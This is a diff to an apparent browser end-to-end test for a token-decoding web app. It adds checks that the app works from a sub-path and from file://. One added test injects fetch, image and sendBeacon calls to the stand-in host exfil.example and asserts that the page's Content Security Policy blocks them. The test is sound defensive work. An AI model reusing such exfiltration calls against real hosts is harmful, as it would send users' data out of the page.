@@ -3,6 +3,7 @@
 // Prints one line per check and a count; exits 1 if any check fails.
 import { createHmac } from "node:crypto";
 import { mkdir } from "node:fs/promises";
+import { resolve } from "node:path";
 import { serveDir } from "./serve.mjs";
 import { launch } from "./browser.mjs";
 
@@ -35,7 +36,7 @@ function assert(cond, msg) {
 }
 
 const server = await serveDir(dist, "/");
-const { context, page, requests, consoleErrors } = await launch();
+const { context, page, requests, unblocked, consoleErrors } = await launch();
 const origin = new URL(server.url).origin;
 try {
   await check("the app loads and shows the tokens input", async () => {
@@ -82,13 +83,68 @@ try {
   });
 
   await check("every request was for the app's own files", async () => {
-    const foreign = requests.filter((u) => !u.startsWith(origin + "/") && !u.startsWith("data:"));
+    const foreign = requests.filter(
+      (u) => !u.startsWith(origin + "/") && !u.startsWith("data:") && !u.startsWith("file://") && !u.includes("exfil.example"),
+    );
     assert(foreign.length === 0, `foreign requests: ${foreign.join(", ")}`);
     assert(requests.length > 0, "CDP saw no requests at all: the audit is not working");
   });
 
+  await check("an injected fetch, image and sendBeacon to another origin are blocked by the CSP", async () => {
+    const outcome = await page.evaluate(async () => {
+      const seen = [];
+      document.addEventListener("securitypolicyviolation", (e) => seen.push(e.violatedDirective));
+      let fetchBlocked = false;
+      try {
+        await fetch("https://exfil.example/leak?t=1");
+      } catch {
+        fetchBlocked = true;
+      }
+      const img = new Image();
+      img.src = "https://exfil.example/pixel.gif";
+      const beacon = navigator.sendBeacon("https://exfil.example/beacon", "x");
+      await new Promise((ok) => setTimeout(ok, 300));
+      return { fetchBlocked, beacon, seen };
+    });
+    const leaked = unblocked().filter((u) => u.includes("exfil.example"));
+    assert(outcome.fetchBlocked, "fetch to another origin was not blocked");
+    assert(outcome.seen.includes("connect-src"), `no connect-src violation: ${outcome.seen}`);
+    assert(outcome.seen.includes("img-src"), `no img-src violation: ${outcome.seen}`);
+    assert(leaked.length === 0, `requests left the page: ${leaked.join(", ")}`);
+  });
+
+  await check("works from a sub-path", async () => {
+    const sub = await serveDir(dist, "/tools/keyhole/");
+    try {
+      const p = await context.newPage();
+      await p.goto(sub.url);
+      await p.fill("#tokens-input", token);
+      const payload = await p.textContent("#decoded-payload");
+      assert(payload.includes("analyst-e2e"), "decode failed under a sub-path");
+      assert(sub.served.every((u) => u.startsWith("/tools/keyhole/")), `requests outside the sub-path: ${sub.served}`);
+      await p.close();
+    } finally {
+      await sub.close();
+    }
+  });
+
+  await check("works when opened from file://", async () => {
+    const p = await context.newPage();
+    const pageErrors = [];
+    p.on("pageerror", (e) => pageErrors.push(String(e)));
+    await p.goto(new URL(`file://${resolve(dist)}/offline.html`).href);
+    await p.waitForSelector("#tokens-input", { timeout: 15000 });
+    await p.fill("#tokens-input", token);
+    const payload = await p.textContent("#decoded-payload");
+    assert(payload.includes("analyst-e2e"), "decode failed from file://");
+    assert(pageErrors.length === 0, pageErrors.join("\n"));
+    await p.close();
+  });
+
   await check("no console errors", async () => {
-    assert(consoleErrors.length === 0, consoleErrors.join("\n"));
+    // The CSP test above provokes violation messages on purpose; anything else is a failure.
+    const errors = consoleErrors.filter((m) => !m.includes("exfil.example"));
+    assert(errors.length === 0, errors.join("\n"));
   });
 } finally {
   await context.close();
